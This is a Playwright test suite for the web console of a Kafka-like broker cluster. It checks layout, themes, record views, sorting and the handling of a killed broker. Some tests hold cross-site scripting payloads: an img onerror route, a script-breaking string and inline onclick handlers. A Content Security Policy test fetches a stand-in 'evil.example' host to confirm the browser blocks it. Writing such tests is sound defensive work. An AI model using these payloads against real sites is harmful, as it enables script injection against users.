"""The console in a headless Chromium: every part of it, light and dark, wide and narrow; what it shows is what there is."""

import os
from pathlib import Path

import pytest

from harness import browser, console, paths
from harness.browser import NARROW, WIDE, Browser, go, overflow, rows, shoot, until
from harness.clients import ALL_CODECS
from harness.cluster import Cluster
from harness.console import CODECS, HOSTILE, HOSTILE_GROUP, HOSTILES, PER_PARTITION
from harness.wait import PATIENCE_S, wait_until

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = [
    pytest.mark.console,
    pytest.mark.timeout(600),
    pytest.mark.skipif(paths.AGAINST != "ringlog", reason="Kafka has no console"),
    pytest.mark.skipif(browser.CHROMIUM is None, reason="there is no Chromium"),
]
EVIL_GROUP = "".join(f"%{byte:02x}" for byte in HOSTILE_GROUP.encode())
ROUTES = {
    "overview": ("#/", "Overview"),
    "brokers": ("#/brokers", "Brokers"),
    "topics": ("#/topics", "Topics"),
    "topic": (f"#/topics/{CODECS}", CODECS),
    "configs": (f"#/topics/{CODECS}/configs", CODECS),
    "records": (f"#/topics/{CODECS}/records", CODECS),
    "groups": ("#/groups", "Groups"),
    "group": ("#/groups/behind", "behind"),
    "evil-group": (f"#/groups/{EVIL_GROUP}", HOSTILE_GROUP),
    "live": ("#/live", "Live"),
}


@pytest.fixture(scope="module")
def cluster(module_cluster) -> Cluster:
    cluster = module_cluster("browser")
    console.give(cluster)
    return cluster


@pytest.fixture(scope="module")
def chromium():
    with playwright.sync_playwright() as started:
        chromium = Browser(started)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def shots(tmp_path_factory) -> Path:
    """Where pictures go: RINGLOG_TEST_SHOTS, else a folder that is thrown away."""
    named = os.environ.get("RINGLOG_TEST_SHOTS")
    return Path(named) if named else tmp_path_factory.mktemp("shots")


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
def test_every_part_is_there_and_fits(cluster, chromium, shots, theme, size):
    with chromium.page(cluster[1].place.http, theme, size) as page:
        for name, (route, title) in ROUTES.items():
            go(page, route)
            until(page, "title => document.querySelector('h1')?.textContent === title", title)
            until(page, "document.querySelector('table tbody tr, details, .plot path')")
            assert overflow(page) <= 0, name
            shoot(page, shots, f"{name}-{theme}-{size[0]}")
        dark = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).every(c => c < 60)")
        assert dark == (theme == "dark")


def test_what_is_shown_is_what_there_is_from_every_broker(cluster, chromium):
    for node in cluster.running():
        with chromium.page(node.place.http) as page:
            go(page, f"#/topics/{CODECS}")
            found = {row[0]: (row[2], row[5], row[6]) for row in rows(page, "Partitions")}
            leaders = {str(p): str(1 + p % 3) for p in range(len(ALL_CODECS))}
            assert found == {p: (leader, "0", str(PER_PARTITION)) for p, leader in leaders.items()}
            go(page, "#/groups")
            lags = {row[0]: row[5] for row in rows(page, "Groups")}
            assert lags == {"behind": "550", HOSTILE_GROUP: "2", "..": str(PER_PARTITION - 1)}
            page.get_by_role("link", name="behind").click()
            until(page, "document.querySelector('h1')?.textContent === 'behind'")
            offsets = [row[1:5] for row in rows(page, "Offsets")]
            assert offsets == [[str(p), str(10 * p), str(PER_PARTITION), str(PER_PARTITION - 10 * p)] for p in range(5)]
            go(page, "#/brokers")
            assert [row[0].split()[0] for row in rows(page, "Brokers")] == ["1", "2", "3"]
            assert {row[1] for row in rows(page, "Brokers")} == {"serves"}
            assert page.get_by_text(f"{node.id} (this one)").is_visible()


def read(page, **fields):
    """Fills in the form and reads; the lines that came."""
    for name, value in fields.items():
        field = page.locator(f"[name={name}]")
        (field.select_option if field.evaluate("e => e.tagName") == "SELECT" else field.fill)(str(value))
    with page.expect_response(lambda r: "/records" in r.url):
        page.get_by_role("button", name="Read").click()
    page.get_by_role("button", name="Read", exact=True).wait_for()
    return page.locator("details.rec").all()


def first_offset(page) -> str:
    return page.locator("details.rec summary b").first.inner_text()


def test_records_are_read_from_every_broker_in_every_way(cluster, chromium):
    for node in cluster.running():
        with chromium.page(node.place.http) as page:
            go(page, f"#/topics/{CODECS}/records")
            # Newest first, without being asked.
            page.locator("details.rec").first.wait_for()
            assert first_offset(page) == str(PER_PARTITION - 1)
            for partition in range(len(ALL_CODECS)):
                assert len(read(page, partition=partition, way="earliest", limit=10)) == 10
                assert first_offset(page) == "0"
            page.get_by_role("button", name="Newer").click()
            until(page, "document.querySelector('details.rec b')?.textContent === '10'")
            page.get_by_role("button", name="Older").click()
            until(page, "document.querySelector('details.rec b')?.textContent === '0'")
            page.locator("[name=way]").select_option("offset")
            read(page, offset=100)
            assert first_offset(page) == "100"
            # JSON is laid out, and its numbers stay as they were written.
            record = page.locator("details.rec").first
            record.locator("summary").click()
            shown = record.locator("pre").last.inner_text()
            assert '"big": 12345678901234567890,\n' in shown and '"a": "b, {c}"' in shown and '"none": []' in shown
            binary = page.locator("details.rec").nth(2)
            binary.locator("summary").click()
            assert "00 ff 66 00 ff 66" in binary.locator("pre.hex").inner_text()
            page.locator("[name=shape]").select_option("hex")
            assert record.locator("pre.hex").last.inner_text().startswith("000000  7b 22 6e 22")
            page.locator("[name=way]").select_option("timestamp")
            at = page.evaluate("ms => new Date(ms).toISOString().slice(0, 19)", console.T0 + 60_000)
            read(page, time=at)
            assert first_offset(page) == "60"


def test_what_others_wrote_is_text_and_nothing_else(cluster, chromium):
    with chromium.page(cluster[2].place.http) as page:
        go(page, f"#/topics/{HOSTILES}/records")
        page.locator("details.rec").nth(2).wait_for()
        for record in page.locator("details.rec").all():
            record.locator("summary").click()
        shown = page.locator("#view").inner_text()
        assert shown.count(HOSTILE) >= 3 and "</script><script>" in shown and "<b>h</b>" in shown
        # Neither turned round nor with control characters.
        assert "\u202e" not in shown and "\x1b" not in shown
        assert page.locator("#view img, #view script, #view svg[onload]").count() == 0
        for route in ("#/groups", f"#/groups/{EVIL_GROUP}", "#/groups/.."):
            go(page, route)
            page.locator("table tbody tr").first.wait_for()
    with chromium.page(cluster[2].place.http, may_fail=True) as page:
        go(page, "#/")
        for route in ("#/topics/%3Cimg%20src=x%20onerror=window.hacked=1%3E", "#/%E0%A4%A", "#/constructor", "#/topic/x"):
            page.evaluate("hash => { location.hash = hash; }", route)
            until(page, "document.getElementById('view').childElementCount > 0")
        page.get_by_text("There is no topic").or_(page.locator("h1")).first.wait_for()


def test_a_script_that_got_in_would_not_run_nor_reach_anybody(cluster, chromium):
    """The page's policy, should all else fail."""
    with chromium.page(cluster[1].place.http, may_fail=True) as page:
        go(page, "#/")
        page.evaluate("""() => {
            window.blocked = [];
            document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
            const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
            add("script", { textContent: "window.hacked = 1" });
            add("script", { src: "/api/v1/cluster" });
            add("img", { src: "/x.png", onerror: null });
            add("iframe", { src: "/" });
            add("div", { innerHTML: '<b onclick="window.hacked = 1">x</b>' });
            document.querySelector("div > b[onclick]").click();
            fetch("http://evil.example/").catch(() => {});
        }""")
        wanted = {"script-src-elem", "script-src-attr", "img-src", "frame-src", "connect-src"}
        wait_until(lambda: set(page.evaluate("blocked")) >= wanted, f"{wanted} to be blocked")


def test_tables_sort_search_finds_and_the_keyboard_is_enough(cluster, chromium):
    with chromium.page(cluster[1].place.http) as page:
        go(page, "#/topics")
        names = [row[0] for row in rows(page, "Topics")]
        assert names == sorted(names)
        page.get_by_role("button", name="Partitions").focus()
        page.keyboard.press("Enter")
        assert rows(page, "Topics")[0][0] == CODECS
        assert page.locator("th[aria-sort=descending]").inner_text().startswith("Partitions")
        # Focus stays where it is while the page goes on asking.
        with page.expect_response(lambda r: "/api/v1/topics" in r.url):
            pass
        assert page.evaluate("document.activeElement.textContent").startswith("Partitions")
        page.get_by_label("Search topics").fill("HOSTILE")
        until(page, "document.querySelectorAll('tbody tr').length === 1")
        page.get_by_role("link", name=HOSTILES).focus()
        page.keyboard.press("Enter")
        until(page, "title => document.querySelector('h1')?.textContent === title", HOSTILES)


def test_the_theme_can_be_chosen_and_stays(cluster, chromium):
    with chromium.page(cluster[1].place.http, "light") as page:
        go(page, "#/")
        background = "getComputedStyle(document.body).backgroundColor"
        light = page.evaluate(background)
        for _ in range(2):
            page.get_by_role("button", name="Theme").click()
        dark = page.evaluate(background)
        assert dark != light
        page.reload()
        page.wait_for_selector("h1")
        assert page.evaluate(background) == dark


def test_nobody_is_asked_while_it_is_paused(cluster, chromium):
    with chromium.page(cluster[1].place.http) as page:
        page.clock.install()
        go(page, "#/live")
        page.locator(".plot path").first.wait_for(state="attached")
        page.get_by_role("button", name="Pause").click()
        page.wait_for_load_state("networkidle")
        asked = len(page.asked)
        page.clock.run_for(60_000)
        assert len(page.asked) == asked
        with page.expect_response(lambda r: "/api/v1/live" in r.url):
            page.get_by_role("button", name="Resume").click()


def test_a_plot_reads_out_the_moment_that_is_pointed_at(cluster, chromium):
    with chromium.page(cluster[1].place.http) as page:
        go(page, "#/live")
        until(page, "document.querySelector('.plot path.s0')?.getAttribute('d').length > 30")
        box = page.locator(".plot svg").first.bounding_box()
        page.mouse.move(box["x"] + box["width"] - 30, box["y"] + 60)
        until(page, "/^\\d\\d:\\d\\d:\\d\\d$/.test(document.querySelector('.legend .at').textContent)")
        assert page.locator(".plot svg").first.get_attribute("aria-label").startswith("Throughput: in ")


def test_a_broker_that_is_killed_shows_and_so_does_one_that_the_page_is_of(cluster, chromium, shots):
    with chromium.page(cluster[1].place.http) as page, chromium.page(cluster[3].place.http, may_fail=True) as lost:
        for each in (page, lost):
            go(each, "#/")
            each.get_by_text("healthy").wait_for()
        cluster[3].kill9()
        try:
            # What was seen last stays, greyed, with its time.
            lost.get_by_text("This broker does not answer").wait_for()
            assert "What is shown is of " in lost.locator("#banner").inner_text()
            assert "stale" in lost.locator("body").get_attribute("class")
            assert lost.get_by_text("of 3").is_visible()
            shoot(lost, shots, "stale-light-1280")
            page.get_by_text("degraded").wait_for(timeout=PATIENCE_S * 1000)
            page.get_by_text("the controller does not hear of it").first.wait_for()
            assert "under-replicated" in {row[1] for row in rows(page, "Partitions with problems")}
            shoot(page, shots, "degraded-light-1280")
            go(page, "#/brokers")
            page.get_by_text("Broker 3 does not answer").wait_for()
            assert [row[1] for row in rows(page, "Brokers")] == ["serves", "serves", "fenced"]
            # All of its partitions are led by others, and read from there.
            go(page, f"#/topics/{CODECS}/records")
            page.locator("details.rec").first.wait_for()
            assert len(read(page, partition=2, way="earliest", limit=10)) == 10
        finally:
            cluster.start_nodes(3)
        go(page, "#/")
        page.get_by_text("healthy").wait_for(timeout=PATIENCE_S * 1000)
        wait_until(lambda: "stale" not in (lost.locator("body").get_attribute("class") or ""), "the page to go on")
